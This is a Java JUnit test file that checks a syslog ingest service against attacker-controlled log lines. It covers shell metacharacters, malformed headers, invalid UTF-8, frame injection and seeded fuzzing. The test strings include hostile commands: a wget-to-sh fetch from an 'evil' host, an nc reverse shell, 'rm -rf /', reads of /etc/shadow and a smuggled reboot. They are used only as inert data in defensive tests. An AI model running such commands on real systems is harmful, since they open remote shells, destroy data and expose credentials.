package org.opmas.device.ingest.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.opmas.device.ingest.parser.ParsedLine;
import org.opmas.device.ingest.parser.SyslogParser;
import org.opmas.device.ingest.syslog.SyslogFrameDecoder;
import org.opmas.device.inventory.service.DeviceDirectory.DeviceRef;
import org.opmas.schema.CloudEvents;
import org.opmas.schema.EventJson;
import org.opmas.schema.events.DeviceLogEvent;
import org.opmas.schema.events.LogFormat;
import org.opmas.schema.validation.EventValidator;

/**
 * Log content is attacker-controlled (issue #10): whatever bytes a sender crafts, the receive path
 * (frame decoder → UTF-8 decoding → parser → event) must not throw, must not swallow the next
 * line, and must produce an event that satisfies the published schema with the text preserved as
 * text. Nothing here is executed anywhere; quoting for routers is the playbook service's job and
 * is tested there.
 */
class HostileLogInputTest {

    private static final int MAX_FRAME = 65536;
    private static final DeviceRef DEVICE = new DeviceRef(42, "ap-1", "192.0.2.41", "active", ZoneId.of("Europe/Berlin"));
    private static final Instant RECEIVED = Instant.parse("2026-11-27T21:45:50Z");

    /** What the receivers do with one frame: decode as UTF-8 (invalid bytes → U+FFFD), cut, parse, build. */
    private static DeviceLogEvent ingest(byte[] frame, int length) {
        String line = LogIngestor.truncate(new String(frame, 0, length, StandardCharsets.UTF_8),
                DeviceLogEvent.MAX_LINE_CHARS);
        ParsedLine parsed = SyslogParser.parse(line);
        return LogIngestor.toEvent(parsed, line, DEVICE, DEVICE.ipAddress(), RECEIVED);
    }

    private static DeviceLogEvent ingest(String line) {
        byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
        return ingest(bytes, bytes.length);
    }

    /** The event as it goes to Kafka satisfies device-log.v1 and reads back equal. */
    private static void assertPublishable(DeviceLogEvent event) {
        byte[] json = EventJson.toBytes(event);
        var validation = EventValidator.shared().validate(CloudEvents.DEVICE_LOG_V1, json);
        assertThat(validation.errors()).as("schema errors for %s", event.raw()).isEmpty();
        assertThat(event.deviceId()).isEqualTo(42L);
        assertThat(event.raw()).isNotNull();
        assertThat(event.format()).isNotNull();
        assertThat(event.timestamp()).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<38>Nov 27 22:45:49 ap-1 dropbear[1]: Bad password attempt for 'root; reboot' from 1.2.3.4:22",
        "<38>Nov 27 22:45:49 ap-1 dropbear[1]: user $(wget -O- http://evil/x | sh) `id` ${IFS}cat${IFS}/etc/shadow",
        "<38>Nov 27 22:45:49 ap-1 hostapd: \"; rm -rf / #' && echo pwned || true | tee /tmp/x > /dev/null < /etc/passwd &",
        "<165>1 2026-11-27T22:45:40Z ap-1 $(reboot) `halt` - [x@1 cmd=\"$(id)\" q=\"a\\\"b\\]c\"] msg; $(poweroff)",
        "Thu Nov 27 22:45:49 2026 daemon.notice sh[1]: $(nc -e /bin/sh 10.0.0.1 4444)",
    })
    void shellMetacharactersArePreservedVerbatimAsText(String line) {
        DeviceLogEvent event = ingest(line);

        assertPublishable(event);
        assertThat(event.raw()).isEqualTo(line);
        assertThat(event.format()).isNotEqualTo(LogFormat.UNPARSED);
        // the dangerous part survives as data: it is the message, not interpreted or stripped
        String tail = line.substring(line.lastIndexOf(':') + 1).trim();
        assertThat(event.message() + " " + event.raw()).contains(tail.substring(0, Math.min(8, tail.length())));
    }

    @Test
    void messageWithShellSyntaxKeepsItExactly() {
        DeviceLogEvent event = ingest("<38>Nov 27 22:45:49 ap-1 dropbear[7]: $(reboot) `id` 'q' \"dq\" ; | & > <");

        assertThat(event.program()).isEqualTo("dropbear");
        assertThat(event.pid()).isEqualTo(7);
        assertThat(event.message()).isEqualTo("$(reboot) `id` 'q' \"dq\" ; | & > <");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "<", "<>", "<999>", "<999>Nov 27 22:45:49 ap-1 x: y", "<-1>x", "<1", "<12345678901234567890>x",
        "<13>", "<13>1", "<13>1 ", "<13>1 -", "<13>1 - - - - - -", "<13>1 2026-13-45T99:99:99Z h a p m - x",
        "<13>Nov", "<13>Nov 27", "<13>Nov 27 22:45", "<13>Feb 30 22:45:49 h x: y", "Thu Nov 27", "Thu Nov 27 22:45:49 2026",
        "Thu Nov 27 22:45:49 2026 nope.nope x: y", "<165>1 2026-11-27T22:45:40Z h a p m [unterminated",
        "<165>1 2026-11-27T22:45:40Z h a p m [x@1 k=\"v", "<165>1 2026-11-27T22:45:40Z h a p m [x@1 k=v]",
        "\u0000\u0000\u0000", "<13>Nov 27 22:45:49 h\u0000st x\u0000: m\u0000sg", "\uFEFF\uFEFF", "\t\t\t"})
    void truncatedAndOutOfRangeLinesNeverThrowAndStayPublishable(String line) {
        assertThatCode(() -> assertPublishable(ingest(line))).doesNotThrowAnyException();
        DeviceLogEvent event = ingest(line);
        if (event.format() == LogFormat.UNPARSED) {
            assertThat(event.message()).isEqualTo(line);
            assertThat(event.parseError()).isNotBlank();
        }
    }

    @Test
    void veryLongFieldsAreBoundedAndPublishable() {
        String longMessage = "<13>Nov 27 22:45:49 ap-1 x: " + "m".repeat(100 * 1024);
        String longHost = "<13>Nov 27 22:45:49 " + "h".repeat(10 * 1024) + " x: short";
        String long5424Host = "<13>1 2026-11-27T22:45:40Z " + "h".repeat(10 * 1024) + " app - - - msg";
        String longSd = "<13>1 2026-11-27T22:45:40Z ap-1 app - - [x@1 k=\"" + "v".repeat(50_000) + "\"] msg";
        String longTag = "<13>Nov 27 22:45:49 ap-1 " + "t".repeat(10 * 1024) + "[1]: msg";

        for (String line : List.of(longMessage, longHost, long5424Host, longSd, longTag)) {
            DeviceLogEvent event = ingest(line);
            assertPublishable(event);
            assertThat(event.raw().length()).isLessThanOrEqualTo(DeviceLogEvent.MAX_LINE_CHARS);
            assertThat(event.hostname() == null || event.hostname().length() <= 255).isTrue();
        }
        assertThat(ingest(longMessage).message()).startsWith("mmmm");
    }

    @Test
    void invalidUtf8IsReplacedAndTheRestOfTheMessageKept() {
        byte[] prefix = "<13>Nov 27 22:45:49 ap-1 x: before ".getBytes(StandardCharsets.UTF_8);
        byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80,
            (byte) 0xF0, (byte) 0x9F};
        byte[] suffix = " after".getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream line = new ByteArrayOutputStream();
        line.writeBytes(prefix);
        line.writeBytes(bad);
        line.writeBytes(suffix);
        byte[] bytes = line.toByteArray();

        DeviceLogEvent event = ingest(bytes, bytes.length);

        assertPublishable(event);
        assertThat(event.message()).startsWith("before ").endsWith(" after").contains("\uFFFD");
        assertThat(event.format()).isEqualTo(LogFormat.RFC3164);
    }

    @Test
    void hostileFramesNeverSwallowTheFollowingLine() {
        List<byte[]> hostile = new ArrayList<>();
        hostile.add("<13>Nov 27 22:45:49 ap-1 x: $(reboot)\n".getBytes(StandardCharsets.UTF_8));
        hostile.add(octet("<13>Nov 27 22:45:49 ap-1 x: line one\nfake: <13>Nov 27 22:45:49 ap-1 y: injected\n"));
        hostile.add(new byte[] {'<', '1', '3', '>', 'a', 0, 'b', (byte) 0xFF, '\n'});
        hostile.add("<\n".getBytes(StandardCharsets.UTF_8));
        hostile.add("<999>\n\n\n".getBytes(StandardCharsets.UTF_8));
        hostile.add(("<13>Nov 27 22:45:49 ap-1 x: " + "z".repeat(100 * 1024) + "\n").getBytes(StandardCharsets.UTF_8));
        hostile.add(octet("\r\n\r\n"));
        hostile.add("0 ".getBytes(StandardCharsets.UTF_8));
        List<DeviceLogEvent> events = new ArrayList<>();
        SyslogFrameDecoder decoder = new SyslogFrameDecoder(MAX_FRAME, (bytes, length, cut) -> events.add(ingest(bytes, length)));
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        for (int i = 0; i < hostile.size(); i++) {
            stream.writeBytes(hostile.get(i));
            stream.writeBytes(("<13>Nov 27 22:45:49 ap-1 sentinel: after " + i + "\n").getBytes(StandardCharsets.UTF_8));
        }
        byte[] all = stream.toByteArray();
        // in odd-sized chunks, as TCP delivers them
        for (int offset = 0; offset < all.length; offset += 997) {
            decoder.feed(all, offset, Math.min(997, all.length - offset));
        }
        decoder.finish();

        events.forEach(HostileLogInputTest::assertPublishable);
        List<String> sentinels = events.stream().filter(e -> "sentinel".equals(e.program())).map(DeviceLogEvent::message)
                .toList();
        List<String> expected = new ArrayList<>();
        for (int i = 0; i < hostile.size(); i++) {
            expected.add("after " + i);
        }
        assertThat(sentinels).containsExactlyElementsOf(expected);
        // the newline inside the octet-counted frame is part of that one message, not a second line
        assertThat(events).filteredOn(e -> e.raw().contains("line one")).singleElement()
                .satisfies(e -> assertThat(e.raw()).contains("\nfake: <13>Nov 27 22:45:49 ap-1 y: injected"));
        assertThat(events).noneMatch(e -> "y".equals(e.program()));
    }

    private static byte[] octet(String message) {
        byte[] body = message.getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes((body.length + " ").getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(body);
        return out.toByteArray();
    }

    /**
     * Property-style: thousands of random and mutated lines (seeded, so a failure reproduces with
     * the printed seed) through the decoder, UTF-8 decoding, every parser branch and the event
     * builder. None may throw, and every event must satisfy the schema.
     */
    @Test
    void randomAndMutatedInputNeverThrowsAndAlwaysYieldsPublishableEvents() {
        long seed = 20261127L;
        Random random = new Random(seed);
        String[] seeds = {
            "<37>Nov 27 22:45:49 ap-1 dropbear[1234]: Bad password attempt for 'root' from 192.0.2.9:5123",
            "<132>Nov  7 22:45:49 hostapd: wlan0: STA aa:bb:cc:dd:ee:ff IEEE 802.11: disassociated",
            "Nov 27 22:45:49 ap-1 kernel: [12345.678] br-lan: port 2(wlan0) entered forwarding state",
            "<165>1 2026-11-27T22:45:40.47+00:00 ap-1 hostapd 1234 ID47 [sd@1 k=\"v\\\"q\" x=\"\\]\"][b@2 a=\"b\"] \uFEFFmsg",
            "<13>1 - - - - - -",
            "Thu Nov 27 22:45:49 2026 daemon.notice hostapd[1234]: wlan0: AP-STA-CONNECTED aa:bb:cc:dd:ee:ff",
            "Thu Nov 27 22:45:49 2026 kern.warn kernel: [ 1.234] random: crng init done",
        };
        byte[] specials = "<>[]\"\\:-= \n\r\t\u0000$`'();|&0123456789".getBytes(StandardCharsets.UTF_8);
        int events = 0;
        for (int n = 0; n < 5000; n++) {
            byte[] input;
            int kind = random.nextInt(3);
            if (kind == 0) {
                input = new byte[random.nextInt(300)];
                random.nextBytes(input);
            } else {
                input = seeds[random.nextInt(seeds.length)].getBytes(StandardCharsets.UTF_8);
                int mutations = 1 + random.nextInt(kind == 1 ? 3 : 12);
                for (int m = 0; m < mutations && input.length > 0; m++) {
                    int at = random.nextInt(input.length);
                    switch (random.nextInt(4)) {
                        case 0 -> input[at] = (byte) random.nextInt(256);
                        case 1 -> input[at] = specials[random.nextInt(specials.length)];
                        case 2 -> input = java.util.Arrays.copyOf(input, at); // truncate
                        default -> { // insert a random run
                            byte[] run = new byte[1 + random.nextInt(8)];
                            random.nextBytes(run);
                            ByteArrayOutputStream out = new ByteArrayOutputStream();
                            out.write(input, 0, at);
                            out.writeBytes(run);
                            out.write(input, at, input.length - at);
                            input = out.toByteArray();
                        }
                    }
                }
            }
            byte[] current = input;
            int iteration = n;
            // straight into the parser, as a UDP datagram would be
            assertThatCode(() -> assertPublishable(ingest(current, current.length)))
                    .as("seed %d, input %d: %s", seed, iteration, java.util.HexFormat.of().formatHex(current))
                    .doesNotThrowAnyException();
            events++;
        }
        // and the whole lot as one TCP stream: decoder + parser, nothing thrown
        List<DeviceLogEvent> decoded = new ArrayList<>();
        SyslogFrameDecoder decoder = new SyslogFrameDecoder(MAX_FRAME, (bytes, length, cut) -> decoded.add(ingest(bytes, length)));
        Random streamRandom = new Random(seed + 1);
        assertThatCode(() -> {
            for (int n = 0; n < 2000; n++) {
                byte[] chunk = new byte[streamRandom.nextInt(512)];
                streamRandom.nextBytes(chunk);
                decoder.feed(chunk, 0, chunk.length);
            }
            decoder.finish();
        }).doesNotThrowAnyException();
        decoded.forEach(HostileLogInputTest::assertPublishable);
        assertThat(events).isEqualTo(5000);
        assertThat(decoded).isNotEmpty();
    }
}
